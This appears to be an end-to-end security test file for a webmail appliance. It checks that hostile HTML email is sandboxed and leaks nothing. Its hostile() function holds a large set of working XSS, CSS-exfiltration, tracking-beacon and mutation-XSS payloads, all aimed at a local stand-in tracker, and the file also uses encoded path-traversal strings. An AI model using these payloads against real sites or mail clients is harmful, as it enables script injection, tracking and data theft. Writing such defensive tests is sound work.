import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { appliance, type Appliance, deliver, message } from '../support/appliance.ts'
import { person, withPassword } from '../support/people.ts'
import { chromiumBrowser, screen } from '../support/screen.ts'

let browser: Browser | undefined

beforeAll(async () => {
  browser = await chromiumBrowser()
})

afterAll(() => browser?.close())

/** Somebody who counts who comes by. */
async function tracker(): Promise<{ url: string; hits: string[] }> {
  const hits: string[] = []
  const server = createServer((request, response) => {
    hits.push(request.url ?? '')
    response.setHeader('Access-Control-Allow-Origin', '*').end('x')
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  onTestFinished(() => void server.close())
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits }
}

const run = "top.document.title='owned';parent.postMessage('owned','*');document.body.dataset.owned='yes'"

/** Every way we know to run something, ask somebody or go somewhere from within an e-mail. */
function hostile(evil: string): string {
  return `<html><head>
    <meta http-equiv="refresh" content="0;url=${evil}/refresh">
    <base href="${evil}/base/">
    <link rel="stylesheet" href="${evil}/link.css"><link rel="preconnect" href="${evil}"><link rel="prefetch" href="${evil}/prefetch">
    <style>@import url(${evil}/import.css); body{background:url(${evil}/style.png)} @font-face{font-family:x;src:url(${evil}/font.woff)}
      p{font-family:x} p[title^="s"]{background-image:url("${evil}/exfiltrated-s")} i{list-style:u\\72l(${evil}/escaped)}
      b{background:image-set("${evil}/set.png" 1x)}</style>
    </head><body background="${evil}/background" onload="${run}">
    <h1>Hostile</h1><p title="secret" style="background:url('${evil}/inline')" onclick="${run}">Text that people read.</p>
    <script>${run};fetch('${evil}/fetch')</script><script src="${evil}/script.js"></script>
    <img src="${evil}/pixel.png" srcset="${evil}/srcset.png 2x" onerror="${run}"><img src="x" onerror="${run}">
    <img src="java&#115;cript:${run}"><input type="image" src="${evil}/input" autofocus onfocus="${run}">
    <svg onload="${run}"><image href="${evil}/svg.png"/><script>${run}</script><style>@import "${evil}/svg.css";</style>
      <foreignObject><iframe src="${evil}/foreign"></iframe></foreignObject><animate onbegin="${run}" attributeName="x"/></svg>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></table></mtext></math>
    <form action="${evil}/form" id="f"><input name="a" value="b"><button autofocus>Go</button></form>
    <iframe src="${evil}/iframe" srcdoc="<script>${run}</script>"></iframe><object data="${evil}/object"></object>
    <embed src="${evil}/embed"><video src="${evil}/video" poster="${evil}/poster" autoplay></video><audio src="${evil}/audio" autoplay></audio>
    <a href="javascript:${run}" id="js">Click me</a> <a href="data:text/html,<script>${run}</script>">And me</a>
    <a href="${evil}/link" ping="${evil}/ping">An honest link</a>
    <template><img src="${evil}/template"></template><noscript><img src="${evil}/noscript"></noscript>
    <table background="${evil}/table"><tr><td>Cell</td></tr></table><body onpageshow="${run}">
    <style>*{color:red}</style><img src=${evil}/unquoted><title></title><img src=${evil}/after-title onerror=${run}></title></body></html>`
}

async function boxWith(html: string): Promise<{ box: Appliance; ada: string; id: string }> {
  const box = await appliance()
  await withPassword(box)
  const { body } = await box.call('POST', '/v1/identities', { name: 'Ada' })
  const fields = { To: body['email'], Subject: 'Look at this', 'Content-Type': 'text/html; charset=utf-8' }
  expect(await deliver(box.smtp, { to: body['email'], raw: message(fields, html) })).toMatch(/^250 /)
  const { body: emails } = await box.call('GET', `/v1/identities/${body['id']}/emails`)
  return { box, ada: body['id'], id: emails.data[0]['id'] }
}

async function look(page: Page): Promise<void> {
  await page.getByRole('link', { name: /Look at this/ }).click()
  const frame = page.frameLocator('iframe.mail-frame')
  await frame.getByText('Text that people read.').waitFor()
  // whoever clicks gets no further
  await frame.getByText('Click me').click()
  await frame.getByText('Text that people read.').click()
  await page.waitForTimeout(500)
}

test('a hostile e-mail runs nothing and asks nobody; its images are fetched only when somebody wants them', async () => {
  if (!browser) return
  const evil = await tracker()
  const { box, ada } = await boxWith(hostile(evil.url))
  const { page, context, troubles } = await screen(browser, box, `/identities/${ada}/inbox`)
  await look(page)
  expect([evil.hits, troubles, await page.title()]).toEqual([[], [], 'Inbox · Pillarbox'])
  const inside = page.frames().find((frame) => frame.url().endsWith('/html'))!
  expect(await inside.locator('body').getAttribute('data-owned')).toBeNull()
  expect(
    await inside.locator('script, svg, form, input, iframe, object, embed, meta[http-equiv], link, base, [onclick]').count(),
  ).toBe(0)
  expect(context.pages()).toHaveLength(1)
  await page.getByRole('button', { name: 'Show images' }).click()
  const image = evil.url.replace('http:', 'https:')
  await expect.poll(() => troubles).toContain(`${image}/pixel.png`)
  await page.waitForTimeout(300)
  // images alone, and what style draws: nothing that is a script, a sheet, a font or a form
  const paths = troubles.filter((one) => one.startsWith(image)).map((one) => new URL(one).pathname)
  for (const path of paths)
    expect(['/pixel.png', '/unquoted', '/after-title', '/style.png', '/inline', '/exfiltrated-s', '/set.png']).toContain(path)
  expect(evil.hits).toEqual([])
})

test('were the HTML read wrongly, its frame and policy would still hold it', async () => {
  if (!browser) return
  const evil = await tracker()
  const { box, ada, id } = await boxWith('<p>Text that people read. <a href="https://x.test">Click me</a></p>')
  const { page, context } = await screen(browser, box, '/')
  let held = true
  // the frame, and the copy of which the height is taken
  await context.route(`**/emails/${id}/html*`, async (route) => {
    const response = await route.fetch()
    const { 'content-security-policy': policy = '', ...headers } = response.headers()
    const kept: Record<string, string> = held ? { ...headers, 'content-security-policy': policy } : headers
    await route.fulfill({ response, headers: kept, body: hostile(evil.url) })
  })
  await page.goto(`${box.url}/identities/${ada}/inbox`)
  await look(page)
  expect([evil.hits, await page.title(), context.pages().length]).toEqual([[], 'Inbox · Pillarbox', 1])
  const copy = page.frames().find((frame) => frame.url().endsWith('?measure=true'))!
  expect(await copy.locator('body').getAttribute('data-owned')).toBeNull()
  // that it was the policy which held it
  held = false
  await page.reload()
  await expect.poll(() => evil.hits.length).toBeGreaterThan(3)
})

test('an e-mail of nothing but spaces is opened like any other', async () => {
  if (!browser) return
  const spaces = `${' '.repeat(70)}\n`.repeat(3000)
  const { box, ada } = await boxWith(`<p>Text that people read.</p><img src=${spaces}x><div style="background:url(${spaces}x)">`)
  const { page, troubles } = await screen(browser, box, `/identities/${ada}/inbox`)
  await page.getByRole('link', { name: /Look at this/ }).click()
  await page.frameLocator('iframe.mail-frame').getByText('Text that people read.').waitFor()
  expect(troubles).toEqual([])
})

test('where the HTML of an e-mail cannot be had it is said why, and it is shown once it can', async () => {
  if (!browser) return
  const { box, ada, id } = await boxWith('<p>Text that people read.</p>')
  const { page, context } = await screen(browser, box, `/identities/${ada}/inbox`)
  const busy = { status: 503, json: { error: { code: 'busy', message: 'Too much is asked of the box now.' } } }
  const over = { status: 401, json: { error: { code: 'unauthorized', message: 'The session is over.' } } }
  let refusal: typeof busy | undefined = busy
  await context.route(`**/emails/${id}/html`, (route) => (refusal ? route.fulfill(refusal) : route.continue()))
  await page.getByRole('link', { name: /Look at this/ }).click()
  await page.getByText('Too much is asked of the box now.').waitFor()
  refusal = over
  // the page reads again by itself once its live events are connected: the dialog may be there before the click
  await page.getByRole('button', { name: 'Try again' }).dispatchEvent('click')
  const again = page.getByRole('dialog', { name: 'Sign in again' })
  await again.waitFor()
  refusal = undefined
  await again.getByLabel('Password').fill(person.password)
  await again.getByRole('button', { name: 'Sign in' }).click()
  await page.frameLocator('iframe.mail-frame').getByText('Text that people read.').waitFor()
  expect(await page.getByText('Too much is asked of the box now.').count()).toBe(0)
})

test('no address of the page leads its calls elsewhere', async () => {
  if (!browser) return
  const { box, ada } = await boxWith('<p>Hello</p>')
  const { page, context } = await screen(browser, box, '/')
  const asked: string[] = []
  context.on('request', (request) => asked.push(new URL(request.url()).pathname))
  for (const path of [
    `/identities/${ada}/inbox/..%2F..%2F..%2Fapi-keys`,
    `/identities/${ada}/inbox/%252e%252e`,
    '/identities/..%2Fapi-keys/settings',
    '/webhooks/..%2Fapi-keys',
    '/domains/..%2Fapi-keys',
    '/agents/..%2Fapi-keys',
  ]) {
    await page.goto(`${box.url}${path}`)
    await page.getByRole('alert').getByText('in the path must be an id').first().waitFor()
  }
  expect(asked.filter((path) => path === '/v1/api-keys' || path === `/v1/identities/${ada}/`)).toEqual([])
})

test('a link or an image of an e-mail to the box itself carries no session', async () => {
  if (!browser) return
  const box = await appliance()
  await withPassword(box)
  const { body: ada } = await box.call('POST', '/v1/identities', { name: 'Ada' })
  const html = `<p><a href="${box.url}/v1/identities?limit=1">Everything</a></p><img src="${box.url}/v1/identities?limit=2">`
  const fields = { To: ada['email'], Subject: 'Look at this', 'Content-Type': 'text/html; charset=utf-8' }
  expect(await deliver(box.smtp, { to: ada['email'], raw: message(fields, html) })).toMatch(/^250 /)
  // by the form: the cookie is as the box sets it
  const { page, context } = await screen(browser, box, '/', { visitor: true })
  await page.getByLabel('E-mail address').fill(person.email)
  await page.getByLabel('Password').fill(person.password)
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.getByRole('heading', { name: 'Activity' }).waitFor()
  const asked: { url: string; cookie: string | undefined }[] = []
  const image = `${box.url.replace('http:', 'https:')}/v1/identities?limit=2`
  await context.route(image, async (route) => {
    asked.push({ url: route.request().url(), cookie: (await route.request().allHeaders())['cookie'] })
    await route.abort()
  })
  await page.goto(`${box.url}/identities/${ada['id']}/inbox`)
  await page.getByRole('link', { name: /Look at this/ }).click()
  const frame = page.frameLocator('iframe.mail-frame')
  const [popup] = await Promise.all([context.waitForEvent('page'), frame.getByText('Everything').click()])
  await popup.getByText('unauthorized').waitFor()
  expect(asked).toEqual([])
  await page.getByRole('button', { name: 'Show images' }).click()
  await expect.poll(() => asked).toEqual([{ url: image, cookie: undefined }])
  // that there is a session: the same address, opened by the person
  const own = await context.newPage()
  expect((await own.goto(`${box.url}/v1/identities?limit=1`))?.status()).toBe(200)
})

test('opened by itself, the HTML of an e-mail is no page of the box', async () => {
  const { box, ada, id } = await boxWith('<p>Hello</p>')
  const told = await box.call<string>('GET', `/v1/identities/${ada}/emails/${id}/html`)
  const policy = told.headers.get('content-security-policy') ?? ''
  expect(policy).toContain("default-src 'none'")
  expect(policy).toMatch(/sandbox allow-popups allow-popups-to-escape-sandbox$/)
  expect(policy).not.toMatch(/https:|allow-scripts|allow-same-origin/)
  // the copy that can be measured has the origin of the box, and nothing else
  const copy = await box.call<string>('GET', `/v1/identities/${ada}/emails/${id}/html?measure=true&remote=true`)
  const bound = copy.headers.get('content-security-policy') ?? ''
  expect(bound).toMatch(/^default-src 'none';.* img-src data:;.* frame-ancestors 'self'; sandbox allow-same-origin$/)
  expect(told.headers.get('x-frame-options')).toBe('SAMEORIGIN')
  expect(told.headers.get('cache-control')).toContain('no-store')
  const other = await box.call('POST', '/v1/identities', { name: 'Bob' })
  expect((await box.call('GET', `/v1/identities/${other.body['id']}/emails/${id}/html`)).status).toBe(404)
  expect((await box.call('GET', `/v1/identities/${ada}/emails/${id}/html`, undefined, { key: null })).status).toBe(401)
})
